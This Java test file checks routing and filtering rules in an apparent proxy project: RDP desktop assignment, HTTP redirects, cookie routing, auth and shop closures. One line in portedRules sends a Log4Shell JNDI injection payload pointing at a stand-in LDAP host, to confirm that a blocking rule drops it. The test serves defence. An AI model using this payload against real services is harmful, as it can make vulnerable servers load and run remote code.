package io.weir.examples;

import static org.assertj.core.api.Assertions.assertThat;

import io.weir.event.EventTag;
import io.weir.testkit.Await;
import io.weir.testkit.Behaviour;
import io.weir.testkit.FakeNode;
import io.weir.testkit.RawClient;
import io.weir.testkit.ReceivedResponse;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Set;

/** {@link Probes} of the examples with rules. */
final class RuleProbes {

    private static final String CONFIRMATION = "\3\0\0\13\6\u00d0\0\0\22\64\0";

    private RuleProbes() {}

    /** The first packet of xfreerdp, as recorded, for another user. */
    private static byte[] opening(String user) {
        String cookie = "Cookie: mstshash=" + user + "\r\n";
        int length = cookie.length() + 19;
        String packet =
                "\3\0\0"
                        + (char) length
                        + (char) (length - 5)
                        + "\u00e0\0\0\0\0\0"
                        + cookie
                        + "\1\0\10\0\3\0\0\0";
        return packet.getBytes(StandardCharsets.ISO_8859_1);
    }

    /** Confirms the connection that a client asks for, and says its name; then it sends back. */
    private static Behaviour confirming() {
        return connection -> {
            byte[] header = connection.exactly(4);
            if (header.length == 4 && connection.exactly(header[3] - 4).length > 0) {
                connection.send(CONFIRMATION + connection.node().name());
                for (byte[] more = connection.some(100);
                        more.length > 0;
                        more = connection.some(100)) {
                    connection.send(new String(more, StandardCharsets.ISO_8859_1));
                }
            }
        };
    }

    private static Behaviour answers(int status, Map<String, String> bodies) {
        return Behaviour.answering(
                request -> {
                    String body = bodies.get(request.target());
                    String head =
                            "HTTP/1.1 "
                                    + (body == null ? 404 : status)
                                    + " x\r\nContent-Length: "
                                    + (body == null ? 0 : body.length())
                                    + "\r\n\r\n";
                    return (head + (body == null ? "" : body))
                            .getBytes(StandardCharsets.ISO_8859_1);
                });
    }

    /** Where a user lands, cut off as an empty text; each connection comes in pieces. */
    private static String desktopOf(RunningExample weir, String user) {
        try (RawClient client = weir.client("desktops")) {
            byte[] opening = opening(user);
            client.sendCut(opening, () -> {}, 3, 20);
            String all = new String(client.some(200), StandardCharsets.ISO_8859_1);
            while (!all.isEmpty() && all.length() <= CONFIRMATION.length()) {
                all += new String(client.some(200), StandardCharsets.ISO_8859_1);
            }
            return all.isEmpty() ? "" : all.substring(CONFIRMATION.length());
        }
    }

    static void desktopManager(RunningExample weir) throws InterruptedException {
        String alice = "10.0.0.41:3389";
        String bob = "10.0.0.42:3389";
        Set<String> generic = Set.of("10.0.0.31:3389", "10.0.0.32:3389");
        List.of(alice, bob).forEach(n -> weir.node(n).behave(confirming()));
        generic.forEach(n -> weir.node(n).behave(confirming()));
        weir.node("10.0.0.5:8080")
                .behave(
                        answers(
                                200,
                                Map.of(
                                        "/desktops/alice", weir.node(alice).address() + "\n",
                                        "/desktops/bob", weir.node(bob).address() + "\n",
                                        "/desktops/carol", "")));
        List.of(alice, bob).forEach(n -> Probes.awaitHealth(weir, "desktops", n, "up"));
        generic.forEach(n -> Probes.awaitHealth(weir, "generic", n, "up"));
        for (int i = 0; i < 3; i++) {
            assertThat(desktopOf(weir, "alice")).isEqualTo(alice);
            assertThat(desktopOf(weir, "bob")).isEqualTo(bob);
        }
        String carol = desktopOf(weir, "carol");
        assertThat(generic).contains(carol);
        assertThat(desktopOf(weir, "carol")).isEqualTo(carol);
        assertThat(desktopOf(weir, "mallory")).isEmpty();

        // Alice's desktop sleeps: it is woken while her connection waits.
        FakeNode sleeping = weir.node(alice);
        sleeping.kill();
        Probes.awaitHealth(weir, "desktops", alice, "down");
        FakeNode machines = weir.node("10.0.0.6:8080");
        machines.behave(
                Behaviour.answering(
                        request -> {
                            assertThat(request.target())
                                    .isEqualTo(
                                            "/machines/"
                                                    + sleeping.address().replace(":", "%3A")
                                                    + "/resume");
                            sleeping.revive();
                            return "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"
                                    .getBytes(StandardCharsets.ISO_8859_1);
                        }));
        assertThat(desktopOf(weir, "alice")).isEqualTo(alice);

        aDesktopThatNobodyUsesMaySleep(weir, alice, machines);

        // Bob's is dead: he gets a generic one.
        weir.node(bob).kill();
        Probes.awaitHealth(weir, "desktops", bob, "down");
        machines.behave(answers(200, Map.of()));
        assertThat(generic).contains(desktopOf(weir, "bob"));
    }

    /**
     * The manager is told once of a desktop, and whoever comes back in the same moment finds it.
     */
    private static void aDesktopThatNobodyUsesMaySleep(
            RunningExample weir, String desktop, FakeNode machines) throws InterruptedException {
        FakeNode node = weir.node(desktop);
        try (RawClient client = weir.client("desktops").send(opening("alice"))) {
            client.exactly(CONFIRMATION.length() + desktop.length());
            // No packet like the first one: nothing may wait for its end.
            String hello = "\26\3\1\2\0\1";
            client.send(hello);
            assertThat(client.exactly(hello.length())).isEqualTo(hello);
            weir.look();
            weir.lookAfter(Duration.ofHours(8));
            assertThat(unused(weir, node)).isZero();
        }
        Await.until("alice to be away", () -> weir.view("desktops", desktop).inFlight() == 0);
        weir.look();
        weir.lookAfter(Duration.ofMinutes(29));
        assertThat(unused(weir, node)).isZero();
        weir.lookAfter(Duration.ofMinutes(1));
        weir.lookAfter(Duration.ofHours(1));
        assertThat(unused(weir, node)).isEqualTo(1);

        weir.drain(desktop, true);
        assertThat(weir.view("desktops", desktop).inFlight()).isZero();
        machines.behave(
                Behaviour.answering(
                        request -> {
                            node.revive();
                            weir.drain(desktop, false);
                            return "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"
                                    .getBytes(StandardCharsets.ISO_8859_1);
                        }));
        node.kill();
        assertThat(desktopOf(weir, "alice")).isEqualTo(desktop);
    }

    /** How often the manager was told that nobody uses the desktop. */
    private static long unused(RunningExample weir, FakeNode desktop) throws InterruptedException {
        return weir.events().stream()
                .filter(e -> e.tag() == EventTag.CUSTOMEVENT)
                .filter(e -> e.objects().toString().contains("desktop unused"))
                .filter(e -> e.objects().toString().contains(desktop.address()))
                .count();
    }

    static void portedRules(RunningExample weir) {
        assertThat(weir.get("by-extension", "/a.jsp").field("X-Node")).isEqualTo("10.0.1.2:80");
        assertThat(weir.get("by-extension", "/").field("X-Node")).isEqualTo("10.0.1.4:80");
        assertThat(weir.get("by-cookie", "/", "Cookie: customer=gold").field("X-Node"))
                .isEqualTo("10.0.1.5:80");
        ReceivedResponse moved = weir.get("force-https", "/a?b");
        assertThat(moved.status()).isEqualTo(301);
        assertThat(moved.field("Location")).isEqualTo("https://www.example.com/a?b");
        assertThat(weir.get("rate-http", "/").status()).isEqualTo(200);
        assertThat(weir.get("spider", "/").status()).isEqualTo(200);
        assertThat(weir.get("basic-auth", "/").status()).isEqualTo(401);
        try (RawClient client = weir.client("log4shell")) {
            client.send(RunningExample.request("/", "X-Api: ${jndi:ldap://192.0.2.66/a}"));
            assertThat(client.rest()).isEmpty();
        }
    }

    static void ruleFamilies(RunningExample weir) {
        assertThat(weir.get("members", "/").status()).isEqualTo(401);
        ReceivedResponse closed = weir.get("shop", "/stock");
        assertThat(closed.status()).isEqualTo(503);
        assertThat(closed.text()).contains("We are counting");
        assertThat(closed.field("X-Closed-By")).isEqualTo("closed");
        assertThat(weir.get("shop", "/", "User-Agent: curl").field("X-Node"))
                .isEqualTo("10.0.0.11:80");
        String order = "{\"lines\": [], \"marks\": [\"urgent\"]}";
        try (RawClient client = weir.client("shop")) {
            ReceivedResponse large =
                    client.exchange(
                            "POST /orders HTTP/1.1\r\nHost: www.example.com\r\nContent-Type:"
                                    + " application/json\r\nContent-Length: "
                                    + order.length()
                                    + "\r\n\r\n"
                                    + order);
            assertThat(large.field("X-Node")).isEqualTo("10.0.0.12:80");
        }
        weir.node("10.0.0.13:25")
                .behave(
                        connection -> {
                            connection.send("220 mail.example.com ESMTP Exim 4.97\r\n");
                            connection.drain();
                        });
        try (RawClient client = weir.client("lines")) {
            String greeting = "220 mail.example.com ready\r\n";
            assertThat(client.exactly(greeting.length())).isEqualTo(greeting);
        }
    }
}
